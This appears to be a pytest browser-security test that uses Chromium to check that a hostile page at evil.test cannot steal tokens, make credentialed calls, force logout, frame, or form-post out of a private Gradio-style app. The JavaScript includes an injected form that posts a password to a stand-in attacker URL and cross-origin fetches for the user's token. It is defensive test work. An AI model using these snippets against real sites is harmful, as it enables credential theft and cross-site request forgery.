"""Another site, in Chromium, against a private Space (APP_AUTH) over TLS (security issue #19, rows 3 and 10).

Two host names on one machine (`--host-resolver-rules`): the app at https://space.test (a certificate made here
for both names), a hostile page at http://evil.test. The visitor, in a browser that allows third-party cookies (a
profile of its own, not an incognito-like context), logs in to the Space, then opens the hostile page, which
tries what it can with the visitor's cookies (`SameSite=None; Secure`, sent across sites).
"""

from __future__ import annotations

import datetime
import http.server
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from tests.support.apps import app_env, fake_backed, spawn, stop_process
from tests.support.browser import chromium_profile
from tests.support.fake_openai import Behaviour, FakeOpenAI, free_port

pytestmark = pytest.mark.browser

PASSWORD = "correct-horse-battery-staple"


def make_certificate(directory: Path) -> tuple[Path, Path]:
    """A self-signed certificate for space.test and evil.test (Chromium is told to accept it)."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "space.test")])
    now = datetime.datetime.now(datetime.timezone.utc)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("space.test"), x509.DNSName("evil.test")]), False)
        .sign(key, hashes.SHA256())
    )
    key_path, cert_path = directory / "key.pem", directory / "cert.pem"
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    cert_path.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    return key_path, cert_path


@dataclass
class Evil:
    """The hostile site: one page, and the requests it received (a form posting to it would land here)."""

    url: str
    received: list[str] = field(default_factory=list)


@contextmanager
def evil_site(space: str) -> Iterator[Evil]:
    port = free_port()
    site = Evil(f"http://evil.test:{port}/")
    page = f"""<!doctype html><title>evil</title>
<iframe id="framed" src="{space}" width="400" height="300"></iframe>""".encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.received.append(f"GET {self.path}")
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            site.received.append(f"POST {self.path}")
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def private_space_over_tls(directory: Path, fake: FakeOpenAI) -> Iterator[str]:
    """The app behind APP_AUTH, served over TLS with the test certificate: its https://space.test URL."""
    key, cert = make_certificate(directory)
    port = free_port()
    launch = (
        "from app import demo\n"
        f"demo.launch(server_name='127.0.0.1', server_port={port}, ssl_keyfile={str(key)!r}, "
        f"ssl_certfile={str(cert)!r}, ssl_verify=False)\n"
    )
    env = app_env(**fake_backed(fake, APP_AUTH=f"ada:{PASSWORD}"))
    with (directory / "app.log").open("wb") as log:
        process = spawn([sys.executable, "-c", launch], env=env, log=log)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                httpx.get(f"https://127.0.0.1:{port}/gradio_api/info", verify=False, timeout=1)
                break
            except httpx.HTTPError:
                assert process.poll() is None, (directory / "app.log").read_text()
                time.sleep(0.2)
        yield f"https://space.test:{port}/"
    finally:
        stop_process(process)


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The visitor logs in to the private Space, then visits the hostile page: what each attempt came to."""
    directory = tmp_path_factory.mktemp("cross-origin")
    with (
        FakeOpenAI(Behaviour(delay=0.002)) as fake,
        private_space_over_tls(directory, fake) as space,
        evil_site(space) as evil,
        chromium_profile(
            str(directory / "profile"),
            extra_args=[
                "--host-resolver-rules=MAP space.test 127.0.0.1, MAP evil.test 127.0.0.1",
                "--ignore-certificate-errors",
            ],
        ) as context,
    ):
        page = context.new_page()
        page.goto(space)  # the login page
        logged_in = page.evaluate(
            """(password) => fetch('/login', {method: 'POST', body: new URLSearchParams({username: 'ada', password})})
                .then(r => r.status)""",
            PASSWORD,
        )
        assert logged_in == 200
        page.goto(space)
        own_token = page.evaluate("() => fetch('/gradio_api/token').then(r => r.json())")
        own_call = page.evaluate(
            """() => fetch('/gradio_api/call/greet', {method: 'POST', headers: {'content-type': 'application/json'},
                    body: JSON.stringify({data: ['Ada']})}).then(r => r.status)"""
        )
        # A form that hostile content slipped into the page, posting the visitor's typing elsewhere.
        page.evaluate(
            """(target) => {
                window.__violations = [];
                const seen = e => window.__violations.push(e.violatedDirective);
                document.addEventListener('securitypolicyviolation', seen);
                const form = document.createElement('form');
                form.action = target; form.method = 'post';
                const input = document.createElement('input'); input.name = 'password'; input.value = 'typed';
                form.appendChild(input); document.body.appendChild(form); form.submit();
            }""",
            evil.url + "steal",
        )
        page.wait_for_timeout(1000)
        form_violations = page.evaluate("() => window.__violations")

        page.goto(evil.url)
        page.wait_for_timeout(1500)
        framed = next((frame.url for frame in page.frames if frame != page.main_frame), None)
        tried = page.evaluate(
            """async (space) => {
                const attempt = (path, init) => fetch(space + path, init)
                    .then(async r => `${r.status} ${await r.text()}`)
                    .catch(e => `blocked: ${e.name}`);
                const json = {method: 'POST', headers: {'content-type': 'application/json'},
                              body: JSON.stringify({data: ['Ada']})};
                const results = {
                    token: await attempt('gradio_api/token', {credentials: 'include'}),
                    call: await attempt('gradio_api/call/greet', {...json, credentials: 'include'}),
                    anonymous: await attempt('gradio_api/call/greet', {...json, credentials: 'omit'}),
                };
                return results;
            }""",
            space,
        )
        # A link (here: a script) on the other site that sends the visitor to the Space's logout.
        with page.expect_navigation():
            page.evaluate("(space) => { window.location.href = space + 'logout'; }", space)
        logout_page = page.content()
        page.goto(space)
        token_after = page.evaluate("() => fetch('/gradio_api/token').then(r => r.json())")
        yield {
            "own_token": own_token,
            "own_call": own_call,
            "form_violations": form_violations,
            "evil_received": list(evil.received),
            "framed": framed,
            "tried": tried,
            "logout_page": logout_page,
            "token_after": token_after,
        }


class TestRow3AnotherSite:
    def test_the_visitor_is_really_signed_in(self, attack):
        """The attempts below are not vacuous: on the Space itself the visitor's cookie works."""
        assert attack["own_token"]["user"] == "ada"
        assert attack["own_token"]["token"]
        assert attack["own_call"] == 200

    def test_the_other_site_cannot_read_the_token(self, attack):
        assert attack["tried"]["token"].startswith("blocked")
        assert attack["own_token"]["token"] not in attack["tried"]["token"]

    def test_the_other_site_cannot_call_the_private_space_as_the_visitor(self, attack):
        """A credentialed call is stopped by the browser (its preflight allows no credentials)."""
        assert attack["tried"]["call"].startswith("blocked")

    def test_without_credentials_it_is_an_anonymous_caller(self, attack):
        """The API answers another site as anyone without a login: readable, and 401 on a private Space."""
        assert attack["tried"]["anonymous"].startswith("401 ")

    def test_the_other_site_cannot_log_the_visitor_out(self, attack):
        """A navigation from the other site to /logout carries the cookies: refused, the visitor stays signed in."""
        assert "another site may not call it" in attack["logout_page"]
        assert attack["token_after"] == attack["own_token"]


class TestRow10FramesAndForms:
    def test_no_other_site_frames_the_page(self, attack):
        assert attack["framed"] is not None
        assert not attack["framed"].startswith("https://space.test")

    def test_a_form_in_the_page_cannot_post_elsewhere(self, attack):
        assert "form-action" in (attack["form_violations"] or [])  # None: the form went, and its page with it
        assert not any(request.startswith("POST") for request in attack["evil_received"])
